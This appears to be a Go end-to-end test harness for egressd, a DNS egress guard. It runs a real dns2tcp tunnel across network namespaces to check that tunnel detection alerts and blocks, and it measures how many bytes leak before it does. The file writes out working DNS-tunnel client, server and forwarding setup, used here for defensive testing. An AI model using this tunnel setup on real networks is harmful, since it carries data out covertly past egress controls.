// Package tunnel runs a real DNS tunnel (dns2tcp, Debian's dns2tcpd and
// dns2tcpc) through the real egressd binary and checks that tunnel detection
// catches it (Alert) and stops it (Block), measuring how many queries and how
// many bytes got out first.
//
// Topology, every part in its own network namespace (netmodel, prefix
// "egt-<pid>-tun"):
//
//	pod "apps/exfil-N"  dns2tcpc -l 400N ──veth──▶ node: egressd 169.254.20.10:53
//	node ──▶ external "resolver" 192.0.2.10: CoreDNS, forwards tunnel.example
//	node ──▶ external "tunnel" 198.51.100.10: dns2tcpd (zone tunnel.example),
//	         resources sinkN → 127.0.0.1:900N, TCP sinks counting bytes
//
// Data written to the pod's dns2tcpc port leaves in query names through
// egressd and CoreDNS to dns2tcpd, which writes it to the sink. CoreDNS also
// forwards iodine.tunnel.example to port 5353 of the "tunnel" namespace, where
// the iodine tests run iodined (iodine_test.go).
package tunnel

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"

	"github.com/egressd/egressd/test/coredns"
	"github.com/egressd/egressd/test/netmodel"
	"github.com/egressd/egressd/test/testenv"
)

const (
	zoneName     = "tunnel.example"
	resolverIP   = "169.254.20.10" // egressd, on the node's lo
	resolverAddr = resolverIP + ":53"
	httpAddr     = "127.0.0.1:9464" // egressd's /metrics and /readyz, in the node
)

var (
	upstreamPrefix = netip.MustParsePrefix("192.0.2.10/24")    // CoreDNS
	tunnelPrefix   = netip.MustParsePrefix("198.51.100.10/24") // dns2tcpd
)

var (
	buildOnce sync.Once
	buildDir  string
	agentBin  string
	buildErr  error
)

func TestMain(m *testing.M) {
	code := m.Run()
	if buildDir != "" {
		os.RemoveAll(buildDir)
	}
	os.Exit(code)
}

// agentBinary builds cmd/egressd once per test process.
func agentBinary(t *testing.T) string {
	t.Helper()
	buildOnce.Do(func() {
		buildDir, buildErr = os.MkdirTemp("", "egressd-tunnel-")
		if buildErr != nil {
			return
		}
		agentBin = filepath.Join(buildDir, "egressd")
		cmd := exec.Command("go", "build", "-o", agentBin, "github.com/egressd/egressd/cmd/egressd")
		if out, err := cmd.CombinedOutput(); err != nil {
			buildErr = fmt.Errorf("go build ./cmd/egressd: %v\n%s", err, out)
		}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return agentBin
}

// world is one node with tunnel client pods, the upstream resolver and the
// tunnel server.
type world struct {
	t        *testing.T
	dir      string
	node     *netmodel.Node
	upstream *netmodel.Pod
	tunnel   *netmodel.Pod
	pods     []*netmodel.Pod
	sinks    []*sink
	dns2tcpd *proc
	agent    *proc
	audit    string
}

// newWorld builds the namespaces, starts CoreDNS, dns2tcpd and one TCP sink
// per client pod (pods are "namespace/name").
func newWorld(t *testing.T, pods ...string) *world {
	t.Helper()
	testenv.SkipShort(t, "end-to-end test in network namespaces")
	testenv.RequireRoot(t)
	testenv.RequireTools(t, "ip", "dns2tcpd", "dns2tcpc")
	agentBinary(t)
	w := &world{t: t, dir: t.TempDir()}
	w.node = netmodel.NewTestNode(t, netmodel.Options{Prefix: netmodel.DefaultPrefix() + "tun"})
	var specs []netmodel.PodSpec
	for _, p := range pods {
		specs = append(specs, netmodel.PodSpec{Name: p, Ports: []int{80}})
	}
	var err error
	if w.pods, err = w.node.AddPodSpecs(specs...); err != nil {
		t.Fatal(err)
	}
	if w.upstream, err = w.node.AddExternal(netmodel.ExternalSpec{Name: "resolver", IPv4: upstreamPrefix, IPv6: netip.MustParsePrefix("2001:db8::10/64"), Ports: []int{80}}); err != nil {
		t.Fatal(err)
	}
	if w.tunnel, err = w.node.AddExternal(netmodel.ExternalSpec{Name: "tunnel", IPv4: tunnelPrefix, IPv6: netip.MustParsePrefix("2001:db8:1::10/64"), Ports: []int{80}}); err != nil {
		t.Fatal(err)
	}
	lo, err := w.node.Netlink().LinkByName("lo")
	if err != nil {
		t.Fatal(err)
	}
	if err := w.node.Netlink().AddrAdd(lo, &netlink.Addr{IPNet: &net.IPNet{IP: net.ParseIP(resolverIP), Mask: net.CIDRMask(32, 32)}}); err != nil {
		t.Fatal(err)
	}
	var ws strings.Builder
	ws.WriteString("namespaces:\n")
	seen := map[string]bool{}
	for _, p := range w.pods {
		if !seen[p.Namespace] {
			seen[p.Namespace] = true
			fmt.Fprintf(&ws, "- {name: %s}\n", p.Namespace)
		}
	}
	ws.WriteString("pods:\n")
	for _, p := range w.pods {
		fmt.Fprintf(&ws, "- {namespace: %s, name: %s, ips: [%s, %s]}\n", p.Namespace, p.PodName, p.IPv4, p.IPv6)
	}
	w.write("workloads.yaml", ws.String())
	w.startTunnelServer()
	w.startCoreDNS()
	return w
}

func (w *world) write(name, content string) string {
	p := filepath.Join(w.dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		w.t.Fatal(err)
	}
	return p
}

// proc is a process running inside one of the test's namespaces.
type proc = netmodel.Proc

// startProc starts a program inside ns; it is killed at cleanup.
func (w *world) startProc(ns *netmodel.NS, name, bin string, args ...string) *proc {
	w.t.Helper()
	return netmodel.StartProc(w.t, ns, w.dir, name, bin, args...)
}

// sink is a TCP server in the tunnel namespace that counts what it receives.
type sink struct {
	port int
	n    atomic.Int64
}

// startTunnelServer starts the sinks and dns2tcpd (authoritative for
// tunnel.example, debug level 3: every query it receives is logged).
func (w *world) startTunnelServer() {
	var res []string
	for i := range w.pods {
		s := &sink{port: 9000 + i}
		ln, err := netmodel.ListenTCP(w.tunnel.NS, fmt.Sprintf("127.0.0.1:%d", s.port))
		if err != nil {
			w.t.Fatal(err)
		}
		netmodel.ServeTCP(w.t, ln, netmodel.CountInto(&s.n))
		w.sinks = append(w.sinks, s)
		res = append(res, fmt.Sprintf("sink%d:127.0.0.1:%d", i, s.port))
	}
	chroot := filepath.Join(w.dir, "chroot")
	if err := os.Mkdir(chroot, 0o755); err != nil {
		w.t.Fatal(err)
	}
	conf := w.write("dns2tcpd.conf", fmt.Sprintf("listen = %s\nport = 53\nuser = nobody\nchroot = %s\ndomain = %s\nresources = %s\n",
		tunnelPrefix.Addr(), chroot, zoneName, strings.Join(res, " , ")))
	w.dns2tcpd = w.startProc(w.tunnel.NS, "dns2tcpd", "dns2tcpd", "-F", "-d", "3", "-f", conf)
	// It serves once it has dropped privileges (which can take seconds: the
	// user lookup); a client started before would time out on its first query.
	if !waitFor(30*time.Second, func() bool { return strings.Contains(w.dns2tcpd.Out.String(), "Change to user") }) {
		w.t.Fatalf("dns2tcpd did not start:\n%s", w.dns2tcpd.Out.String())
	}
}

// startCoreDNS runs the upstream resolver: it forwards the tunnel zone to
// dns2tcpd and its subzone iodineZone to iodined's port (as delegations would
// make a recursive resolver do) and answers www.example.org itself.
func (w *world) startCoreDNS() {
	bin := coredns.Binary(w.t)
	ip := upstreamPrefix.Addr()
	cf := w.write("Corefile", fmt.Sprintf(`%[3]s.:53 {
  bind %[1]s
  forward . %[2]s:53 {
    max_fails 0
  }
}
.:53 {
  bind %[1]s
  hosts {
    192.0.2.80 www.example.org
  }
}
%[4]s.:53 {
  bind %[1]s
  forward . %[2]s:%[5]d {
    max_fails 0
  }
}
`, ip, tunnelPrefix.Addr(), zoneName, iodineZone, iodinePort))
	w.startProc(w.upstream.NS, "coredns", bin, "-conf", cf)
	for i := 0; ; i++ {
		r, err := exchange(w.node.NS, ip.String()+":53", "www.example.org.", dns.TypeA)
		if err == nil && r.Rcode == dns.RcodeSuccess {
			return
		}
		if i == 100 {
			w.t.Fatalf("CoreDNS does not answer: %v", err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// exchange sends one query from inside ns.
func exchange(ns *netmodel.NS, addr, qname string, qtype uint16) (*dns.Msg, error) {
	return netmodel.QueryDNS(ns, addr, "udp", qname, qtype, 2*time.Second)
}

// startAgent runs the real egressd binary in the node as the pods' resolver
// (no kernel dataplane: the proof is about DNS) and waits for /readyz.
func (w *world) startAgent(policies string, extra ...string) {
	w.t.Helper()
	polDir := filepath.Join(w.dir, "policies")
	if err := os.MkdirAll(polDir, 0o755); err != nil {
		w.t.Fatal(err)
	}
	if policies != "" {
		w.write("policies/tunnel.yaml", policies)
	}
	w.audit = filepath.Join(w.dir, "audit.jsonl")
	args := append([]string{
		"--policies", polDir, "--workloads", filepath.Join(w.dir, "workloads.yaml"),
		"--listen", resolverAddr, "--upstream", upstreamPrefix.Addr().String() + ":53",
		"--dataplane", "none", "--audit-log", w.audit, "--http-addr", httpAddr,
		"--state-file", filepath.Join(w.dir, "state.json"),
	}, extra...)
	w.agent = w.startProc(w.node.NS, "egressd", agentBinary(w.t), args...)
	w.agent.WaitReady(w.t, w.http(), "http://"+httpAddr+"/readyz", "", time.Minute)
}

// http returns a client whose connections are made inside the node.
func (w *world) http() *http.Client {
	return netmodel.HTTPClient(w.node.NS, 5*time.Second)
}

// metric returns the value of an unlabelled counter from /metrics.
func (w *world) metric(name string) float64 {
	w.t.Helper()
	resp, err := w.http().Get("http://" + httpAddr + "/metrics")
	if err != nil {
		w.t.Fatal(err)
	}
	defer resp.Body.Close()
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), name+" "); ok {
			f, _ := strconv.ParseFloat(v, 64)
			return f
		}
	}
	return 0
}

// auditEvents returns the audit lines of one event name.
func (w *world) auditEvents(event string) []map[string]any {
	var out []map[string]any
	for _, m := range testenv.JSONLines(w.audit) {
		if m["event"] == event {
			out = append(out, m)
		}
	}
	return out
}

// client is a dns2tcpc in a pod with its local port.
type client struct {
	w    *world
	pod  *netmodel.Pod
	i    int
	port int
	proc *proc
}

// startClient runs dns2tcpc in pod i, forwarding its local port to the
// pod's sink through the tunnel, with egressd as its DNS server.
func (w *world) startClient(i int) *client {
	w.t.Helper()
	c := &client{w: w, pod: w.pods[i], i: i, port: 4000 + i}
	c.proc = w.startProc(c.pod.NS, "dns2tcpc-"+c.pod.Name, "dns2tcpc",
		"-z", zoneName, "-r", fmt.Sprintf("sink%d", i), "-l", strconv.Itoa(c.port), "-d", "1", resolverIP)
	return c
}

// send connects to the local port of dns2tcpc and writes n random bytes in
// chunks of 256, then keeps the connection open until ctx ends (dns2tcpc
// closes the session when the connection closes).
func (c *client) send(ctx context.Context, n int) (net.Conn, error) {
	var conn net.Conn
	for i := 0; ; i++ {
		err := c.pod.Do(func() (err error) {
			conn, err = net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", c.port), time.Second)
			return err
		})
		if err == nil {
			break
		}
		if i == 100 {
			return nil, fmt.Errorf("dns2tcpc does not listen on %d: %w", c.port, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
	go func() {
		buf := make([]byte, 256)
		for sent := 0; sent < n && ctx.Err() == nil; sent += len(buf) {
			for j := range buf {
				buf[j] = byte(sent + j*7)
			}
			if _, err := conn.Write(buf[:min(len(buf), n-sent)]); err != nil {
				return
			}
		}
	}()
	go func() { io.Copy(io.Discard, conn) }()
	return conn, nil
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(d time.Duration, cond func() bool) bool {
	end := time.Now().Add(d)
	for time.Now().Before(end) {
		if cond() {
			return true
		}
		time.Sleep(100 * time.Millisecond)
	}
	return cond()
}

// serverQuery is one query dns2tcpd received (its log at debug level 3).
type serverQuery struct {
	data    string // the labels left of the zone, without dots
	dataLen int    // payload bytes the query carried (0: control or poll)
}

var (
	reQuery  = regexp.MustCompile(`Receive query : (\S+) dns_id`)
	rePacket = regexp.MustCompile(`decoded, data_len (\d+)`)
)

// serverLog parses the queries dns2tcpd received, in order.
func (w *world) serverLog() []serverQuery {
	var out []serverQuery
	for _, line := range strings.Split(w.dns2tcpd.Out.String(), "\n") {
		if m := reQuery.FindStringSubmatch(line); m != nil {
			out = append(out, serverQuery{data: m[1]})
		} else if m := rePacket.FindStringSubmatch(line); m != nil && len(out) > 0 {
			out[len(out)-1].dataLen, _ = strconv.Atoi(m[1])
		}
	}
	return out
}

// leak is what got out through the tunnel up to a query.
type leak struct {
	queries, dataQueries, bytes int
}

// leakedUpTo sums dns2tcpd's queries up to and including the one whose name
// is qname (the query that raised the alert); found is false when the
// server never received it.
func (w *world) leakedUpTo(qname string) (l leak, found bool) {
	data := strings.ReplaceAll(strings.TrimSuffix(strings.TrimSuffix(qname, "."), "."+zoneName), ".", "")
	for _, q := range w.serverLog() {
		l.queries++
		if q.dataLen > 0 {
			l.dataQueries++
			l.bytes += q.dataLen
		}
		if q.data == data || (len(q.data) >= 16 && strings.HasPrefix(data, q.data)) {
			return l, true
		}
	}
	return l, false
}

// leakedTotal sums every query dns2tcpd received.
func (w *world) leakedTotal() leak {
	var l leak
	for _, q := range w.serverLog() {
		l.queries++
		if q.dataLen > 0 {
			l.dataQueries++
			l.bytes += q.dataLen
		}
	}
	return l
}
